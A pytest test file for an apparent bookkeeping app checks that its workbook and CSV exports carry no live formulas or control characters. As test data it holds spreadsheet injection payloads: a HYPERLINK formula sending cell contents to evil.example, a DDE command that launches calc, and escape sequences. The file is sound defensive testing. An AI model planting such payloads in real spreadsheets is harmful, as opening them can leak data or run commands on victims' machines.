"""Every file Duebook writes from the books (workbooks and CSV) is safe to open in a spreadsheet:
no cell is a formula and no CSV field starts with = + - @ or a control character, whatever a
customer's code, name or a user's name holds (issue 20, item 7)."""

from __future__ import annotations

import csv
import datetime as dt
import re
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from app.services.company import create_company
from app.services.customers import records as customers
from app.services.customers.records import CustomerFilter
from app.services.documents import excel
from app.services.ledger import aging, statements
from app.services.reports import analysis as reports
from app.services.reports import export as report_export
from app.services.safety import audit_trail
from app.services.safety.audit_trail import AuditFilter
from app.services.unit_of_work import Database
from tests.services.ledger_helpers import customer, invoice, payment

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
                 "+1+1", "-2+3", "\tx", "\x1b[31mred\x1b[0m"]
NUMBER = re.compile(r"-?\d+(\.\d+)?")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Database]:
    db = create_company(str(tmp_path_factory.mktemp("hostile") / "books.duebook"), "Test Co", "CNY", "en")
    db.user = '=HYPERLINK("http://evil.example","user")'
    for i, name in enumerate(HOSTILE_NAMES):
        code = f"H{i}"
        customer(db, code, f"Plain {i}")
        invoice(db, code, "2026-01-05", "100.00", number=f"I{i}")
        payment(db, code, "2026-02-01", "30.00", number=f"P{i}")
        with db.engine.begin() as conn:  # as an older file or a text editor may have left them
            conn.execute(text("UPDATE customers SET name = :n WHERE code = :c"), {"n": name, "c": code})
    with db.engine.begin() as conn:
        conn.execute(text("UPDATE customers SET code = :n WHERE code = 'H0'"), {"n": "=2+5"})
        conn.execute(text("UPDATE customers SET code = :n WHERE code = 'H5'"), {"n": "C\x1b5"})
    yield db
    db.close()


def _check_xlsx(path: Path) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (path.name, c.coordinate, c.value)


def _check_csv(path: Path) -> None:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        for row in csv.reader(fh):
            for field in row:
                if not field or NUMBER.fullmatch(field):
                    continue
                assert field[0] not in "=+-@" and field[0].isprintable(), (path.name, field)
                assert "\x1b" not in field and "\x00" not in field


WRITERS: dict[str, Callable[[Database, Path], Path]] = {
    "aging.xlsx": lambda db, p: excel.write_aging_workbook(aging.aging(db.uow(), dt.date(2026, 6, 30)), p),
    "customers.xlsx": lambda db, p: excel.write_customers_workbook(
        customers.list_customers(db.uow(), CustomerFilter()), p),
    "statement.xlsx": lambda db, p: excel.write_statement_workbook(
        statements.statement(db.uow(), "H1", dt.date(2026, 1, 1), dt.date(2026, 6, 30)), p),
    "ledger.xlsx": lambda db, p: excel.write_ledger_export(db, p),
    "ledger.csv": lambda db, p: excel.write_ledger_export(db, p),
    "report.xlsx": lambda db, p: report_export.export_xlsx(
        reports.run_report(db.uow(), "top_overdue", dt.date(2026, 1, 1), dt.date(2026, 6, 30)), p),
    "audit.xlsx": lambda db, p: (audit_trail.export(db.uow(), AuditFilter(), p), p)[1],
    "audit.csv": lambda db, p: (audit_trail.export(db.uow(), AuditFilter(), p), p)[1],
    "table.csv": lambda db, p: excel.write_csv(p, ["code", "name"], [[n, n] for n in HOSTILE_NAMES]),
    "table.xlsx": lambda db, p: excel.write_table(p, ["code", "name"], [[n, n] for n in HOSTILE_NAMES]),
}


@pytest.mark.parametrize("name", list(WRITERS))
def test_no_export_holds_a_formula_or_a_raw_control_character(hostile: Database, tmp_path: Path,
                                                              name: str) -> None:
    out = WRITERS[name](hostile, tmp_path / name)
    assert Path(out).exists()
    (_check_csv if name.endswith(".csv") else _check_xlsx)(Path(out))
